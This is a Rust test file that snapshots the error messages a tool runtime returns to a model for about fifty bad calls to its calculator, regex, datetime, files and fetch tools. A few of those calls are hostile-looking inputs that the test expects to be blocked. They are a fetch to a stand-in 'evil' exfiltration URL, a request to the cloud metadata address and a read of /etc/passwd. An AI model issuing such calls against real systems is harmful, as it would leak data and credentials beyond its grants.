//! The golden file of model-facing messages: what a model reads back for a broad set of bad
//! calls to every standard tool (`snapshots/it__messages__model_facing_messages.snap`).
//! A change to any of them shows up in review; each is also checked here for what a model
//! needs: where the problem is, what is allowed, what to do next, and no schema jargon.

use serde_json::{Value, json};
use toolcell_runtime::{
    Runtime, ToolCall, ToolOutput,
    policy::{DirGrant, Grants},
};

use crate::common::runtime;

/// Words a model should never have to decode.
const JARGON: [&str; 9] =
    ["anyOf", "oneOf", "allOf", "$ref", "$defs", "uint32", "int64", "const", "is not valid under"];

/// Phrases that tell the model what to do next (or that nothing it sends can help).
const NEXT_STEPS: [&str; 14] = [
    "call the tool again",
    "Call one of them",
    "Send the arguments",
    "Fix these",
    "Change the arguments",
    "calling again",
    "Calling it again",
    "Do not retry",
    "do not call",
    "use a URL",
    "try a different approach",
    "Use a path",
    "tell the user",
    "try again",
];

/// The bad calls: tool, arguments (text, so malformed JSON can be sent too), and whether the
/// tool has its grants (a folder at `/workspace` for `files`, `example.com` for `http_fetch`).
fn bad_calls() -> Vec<(&'static str, String, bool)> {
    let value = |tool, arguments: Value| (tool, arguments.to_string(), false);
    let granted = |tool, arguments: Value| (tool, arguments.to_string(), true);
    vec![
        ("calculater", json!({"expression": "1"}).to_string(), false),
        value("calculator", json!({})),
        value("calculator", json!({"expr": "1 + 1"})),
        value("calculator", json!({"expression": 42})),
        value("calculator", json!({"expression": "1 +"})),
        value("calculator", json!({"expression": "1 / (2 - 2)"})),
        value("calculator", json!({"expression": "foo + 1"})),
        value("calculator", json!({"expression": "x * 2", "variables": {"x": "three"}})),
        value("calculator", json!({"expression": ""})),
        ("calculator", r#"{"expression": "1",, }"#.to_owned(), false),
        value("json_query", json!({"document": {"a": 1}})),
        value("json_query", json!({"document": {"a": 1}, "query": "$.a[?@ >"})),
        value("json_query", json!({"document": {"a": 1}, "query": "$.a", "limit": -1})),
        value("json_query", json!({"document": {"a": 1}, "query": "a.b"})),
        value("regex", json!({"pattern": "(", "text": "x", "operation": "find"})),
        value("regex", json!({"pattern": "a", "text": "x", "operation": "fnd"})),
        value("regex", json!({"pattern": "a", "text": "x", "operation": "replace"})),
        value("regex", json!({"pattern": "a", "text": "x", "operation": "find", "flags": {"case_insensitive": "yes"}})),
        value("regex", json!({"pattern": "a", "text": "x", "operation": "find", "flags": {"multiline": true}})),
        value("regex", json!({"pattern": "a", "text": "x", "operation": "find", "limit": -1})),
        value("datetime", json!({"operation": "diff"})),
        value("datetime", json!({"operation": "parse", "instant": "next tuesday"})),
        value(
            "datetime",
            json!({"operation": "convert", "instant": "2024-01-01T00:00:00Z", "to_time_zone": "Mars/Olympus"}),
        ),
        value("datetime", json!({"operation": "add", "instant": "2024-01-01T00:00:00Z", "duration": "soon"})),
        value(
            "datetime",
            json!({"operation": "difference", "instant": "2024-01-01T00:00:00Z", "end": "2024-02-01T00:00:00Z", "largest_unit": "year"}),
        ),
        value("datetime", json!({"operation": "add", "instant": "2024-01-01T00:00:00Z"})),
        value("unit_convert", json!({"value": 1, "from": "lightyear", "to": "meter"})),
        value("unit_convert", json!({"value": 1, "from": "metre", "to": "mile"})),
        value("unit_convert", json!({"value": 1, "from": "meter", "to": "kilogram"})),
        value("unit_convert", json!({"value": "1", "from": "meter", "to": "mile"})),
        value("unit_convert", json!({"from": "meter", "to": "mile"})),
        value("http_fetch", json!({"url": "https://example.org/"})),
        value("http_fetch", json!({"url": "ftp://example.org/file"})),
        value("http_fetch", json!({"url": "not a url"})),
        value("http_fetch", json!({"url": "https://example.org/", "max_bytes": 0})),
        value("http_fetch", json!({"url": "https://example.org/", "Headers": {}})),
        granted("http_fetch", json!({"url": "https://evil.example.net/steal?data=1"})),
        granted("http_fetch", json!({"url": "http://169.254.169.254/latest/meta-data/"})),
        value("files", json!({"operation": "list", "path": "/workspace"})),
        granted("files", json!({"operation": "read", "path": "/etc/passwd"})),
        granted("files", json!({"operation": "read", "path": "/workspace/missing.txt"})),
        granted("files", json!({"operation": "list", "path": "workspace"})),
        granted("files", json!({"operation": "search", "path": "/workspace"})),
        granted("files", json!({"operation": "read", "path": "/workspace/notes.txt", "length": 10_000_000})),
        granted("files", json!({"operation": "lst", "path": "/workspace"})),
        granted("files", json!({"operation": "list", "path": "/workspace", "pattern": "x"})),
        granted("files", json!({"operation": "read", "path": "/workspace"})),
    ]
}

fn messages_folder() -> std::path::PathBuf {
    std::env::temp_dir().join(format!("toolcell-messages-{}", std::process::id()))
}

/// The standard tools with their grants: a folder holding `notes.txt` at `/workspace`, and
/// `example.com` for `http_fetch`.
async fn granted_runtime() -> Runtime {
    let folder = messages_folder();
    std::fs::create_dir_all(&folder).unwrap();
    std::fs::write(folder.join("notes.txt"), "alpha\nbeta\n").unwrap();
    crate::common::standard_tools()
        .grant("files", Grants::new().dir(DirGrant::read_only(&folder, "/workspace")))
        .grant("http_fetch", Grants::new().allow_host("example.com".parse().unwrap()))
        .build()
        .await
        .unwrap()
}

#[tokio::test]
async fn model_facing_messages() {
    let granted = granted_runtime().await;
    let mut golden = String::new();
    let calls = bad_calls();
    assert!(calls.len() >= 40, "{} calls", calls.len());
    for (tool, arguments, with_grants) in calls {
        let on = if with_grants { &granted } else { runtime() };
        let output = on.call(ToolCall::new("golden", tool, arguments.as_str())).await;
        check(tool, &arguments, &output);
        let kind = output.error.as_ref().map_or("ok", |error| error.kind());
        let grants = if with_grants { " (granted)" } else { "" };
        golden.push_str(&format!("## {tool} {arguments}{grants}\n[{kind}]\n{}\n\n", output.content));
    }
    let _ = std::fs::remove_dir_all(messages_folder());
    insta::assert_snapshot!(golden);
}

/// What every message must do.
fn check(tool: &str, arguments: &str, output: &ToolOutput) {
    let what = format!("{tool} {arguments}: {}", output.content);
    assert!(output.is_error, "a bad call must fail: {what}");
    for word in JARGON {
        assert!(!contains_word(&output.content, word), "jargon `{word}` in {what}");
    }
    assert!(NEXT_STEPS.iter().any(|step| output.content.contains(step)), "no next step in {what}");
    if let Some(toolcell_runtime::CallError::InvalidArguments { violations }) = &output.error {
        for violation in violations {
            assert!(!violation.message.is_empty(), "{what}");
        }
    }
}

/// Whether `word` appears in `text` as a whole word (`const`, not `constants`).
fn contains_word(text: &str, word: &str) -> bool {
    text.match_indices(word).any(|(at, _)| {
        let before = text[..at].chars().next_back();
        let after = text[at + word.len()..].chars().next();
        !before.is_some_and(char::is_alphanumeric) && !after.is_some_and(char::is_alphanumeric)
    })
}
